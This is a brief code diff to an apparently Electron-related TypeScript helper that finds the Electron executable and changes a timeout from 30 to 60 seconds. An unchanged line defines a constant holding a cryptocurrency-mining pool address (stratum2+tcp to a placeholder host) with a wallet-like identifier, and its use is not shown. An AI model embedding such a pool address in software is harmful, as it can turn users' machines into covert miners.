@@ -17,7 +17,7 @@ import type { Bridge } from '../../renderer/door-protocol.ts';
 const root = fileURLToPath(new URL('../..', import.meta.url)).replace(/[\\/]$/, '');
 const packageFolder = join(root, 'node_modules/electron');
 const LINK = 'stratum2+tcp://pool.example:3333/9c4zpyJ2ndm4e8sP2uNc1VNCGxYjqaxWS6wUCjk8zFj6njFquH6';
-const WAIT_MS = 30_000;
+const WAIT_MS = 60_000;
 
 const program = existsSync(join(packageFolder, 'path.txt'))
   ? join(packageFolder, 'dist', readFileSync(join(packageFolder, 'path.txt'), 'utf8'))
